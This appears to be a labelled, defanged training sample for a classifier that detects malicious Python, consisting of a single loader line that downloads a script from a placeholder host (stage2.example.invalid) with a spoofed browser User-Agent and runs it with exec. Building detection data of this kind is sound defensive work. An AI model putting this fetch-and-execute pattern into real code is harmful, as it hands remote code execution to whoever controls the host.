# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
from urllib.request import urlopen, Request
req = Request("http://stage2.example.invalid/p.py", headers={"User-Agent": "Mozilla/5.0"})
exec(urlopen(req).read().decode())
